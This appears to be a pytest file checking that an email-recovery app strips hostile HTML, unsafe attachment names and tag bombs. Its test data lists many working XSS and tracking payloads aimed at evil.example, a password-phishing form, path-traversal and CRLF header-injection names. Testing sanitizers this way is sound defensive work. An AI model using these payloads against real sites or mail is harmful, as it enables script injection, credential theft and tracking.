"""Mail written by an attacker: what comes out of the cleaning holds nothing that runs or calls home."""

import re
from pathlib import PureWindowsPath

import pytest

from apps.recovery.formats.confined import NOT_SHOWN, clean_confined
from apps.recovery.formats.file_names import safe_file_name
from apps.recovery.formats.letter_html import BLANK, clean_html, frame_document, image_type

PIXEL = b"\x89PNG\r\n\x1a\n" + b"\0" * 20
ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif">',
    '<img srcset="https://evil.example/a.png 2x">',
    '<img src="//evil.example/a.png">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<link rel="prefetch" href="https://evil.example/">',
    '<link rel="dns-prefetch" href="//evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
    '<svg onload="alert(1)"><image href="https://evil.example/a.png"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<style>body { background: url("https://evil.example/a.png") } @import "https://evil.example/b.css";</style>',
    '<div style="background: url(https://evil.example/a.png)">x</div>',
    '<div style="background-image: u\\72l(https://evil.example/a.png)">x</div>',
    '<div style="list-style: url(&#x68;ttps://evil.example/a.png)">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%">x</div>',
    '<body background="https://evil.example/a.png" onload="alert(1)">',
    '<table background="https://evil.example/a.png"><td background="https://evil.example/b.png">x</td></table>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/a.swf">',
    '<video src="https://evil.example/a.mp4" autoplay></video><audio src="https://evil.example/a.mp3"></audio>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://good.example" ping="https://evil.example" onclick="alert(1)">x</a>',
    '<details open ontoggle="alert(1)">x</details>',
    '<p id="x" name="y" class="ek-note" onmouseover="alert(1)">x</p>',
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    '<input type="image" src="https://evil.example/a.png">',
    '<isindex action="javascript:alert(1)">',
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_and_nothing_is_loaded(attack: str) -> None:
    cleaned = clean_html(f"<p>before</p>{attack}<p>after</p>", {})
    tags = " ".join(re.findall(r"<[^>]*>", cleaned)).lower()
    assert "evil.example" not in tags
    assert not re.search(
        r"<(script|style|link|meta|base|form|input|svg|math|iframe|object|embed|video|audio)", tags
    )
    assert not re.search(r"\son\w+\s*=|javascript:|vbscript:|data:text|position|url\(|expression", tags)
    assert all(source == BLANK for source in re.findall(r'src="([^"]*)"', tags.replace(BLANK.lower(), BLANK)))


def test_harmless_mail_keeps_its_look_and_links() -> None:
    cleaned = clean_html(
        '<p style="color:red">Hi <a href="https://good.example/x">there</a></p><table><tr><td>1</td></tr></table>',
        {},
    )
    assert 'style="color:red"' in cleaned
    assert 'href="https://good.example/x"' in cleaned and 'rel="noopener noreferrer nofollow"' in cleaned
    assert "<td>1</td>" in cleaned


def test_inline_pictures_come_out_of_the_message_itself() -> None:
    cleaned = clean_html(
        '<img src="cid:logo@x"><img src="CID:logo%40x"><img src="cid:other">', {"logo@x": PIXEL}
    )
    assert cleaned.count("data:image/png;base64,") == 2
    assert cleaned.count(BLANK) == 1


def test_a_picture_is_what_its_bytes_say_and_never_svg() -> None:
    assert image_type(b"<svg xmlns='http://www.w3.org/2000/svg'>") == ""
    assert image_type(b"RIFF\0\0\0\0WEBPVP8 ") == "image/webp"
    assert BLANK in clean_html('<img src="cid:a">', {"a": b"<svg onload=alert(1)>"})


def test_pictures_that_are_too_much_are_left_out(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("apps.recovery.formats.letter_html.MAX_IMAGES_BYTES", len(PIXEL) + 1)
    assert clean_html('<img src="cid:a"><img src="cid:a">', {"a": PIXEL}).count(BLANK) == 1


def test_braces_in_a_mail_do_not_disturb_the_frame() -> None:
    assert "{0} {nope}" in frame_document(clean_html("<p>{0} {nope}</p>", {}))


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd", "_.._etc_passwd"),
        ("C:\\Windows\\win.ini", "C__Windows_win.ini"),
        ('a"; filename="evil.html', "a_; filename=_evil.html"),
        ("a\r\nSet-Cookie: x=1.pdf", "a Set-Cookie_ x=1.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("nul.txt", "_nul.txt"),
        ("nul .txt", "_nul.txt"),
        ("COM¹", "_COM¹"),
        ("conin$.eml", "_conin$.eml"),
        ("Consul.txt", "Consul.txt"),
        ("...", "otherwise"),
        ("", "otherwise"),
        ("\x00\x01", "otherwise"),
        ("Résumé 履歴書.pdf", "Résumé 履歴書.pdf"),
    ],
)
def test_file_names_of_strangers_are_made_safe(name: str, expected: str) -> None:
    assert safe_file_name(name, "otherwise") == expected
    assert not PureWindowsPath(expected).is_reserved()


def test_a_long_file_name_is_cut_and_keeps_its_ending() -> None:
    cut = safe_file_name("履" * 300 + ".pdf", "otherwise")
    assert cut.endswith("履.pdf") and len(cut.encode()) <= 200


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 200_000,
        "<p>" + "".join(f"<font size={n}>" for n in range(2_000)) + "<p>x" * 20_000,
    ],
    ids=["an hour of work", "gigabytes of elements"],
)
def test_a_bomb_of_tags_costs_little_and_is_said(bomb: str) -> None:
    assert clean_confined(bomb, {}) == NOT_SHOWN


def test_a_long_newsletter_is_shown_as_a_short_one() -> None:
    row = '<tr><td style="color:red">Grüße <script>alert(1)</script><img src="cid:a"></td></tr>'
    source, images = f"<table>{row * 2_000}</table>", {"a": PIXEL, "b": b"<svg>"}
    shown = clean_confined(source, images)
    assert shown == clean_html(source, images) and "data:image/png" in shown and "script" not in shown
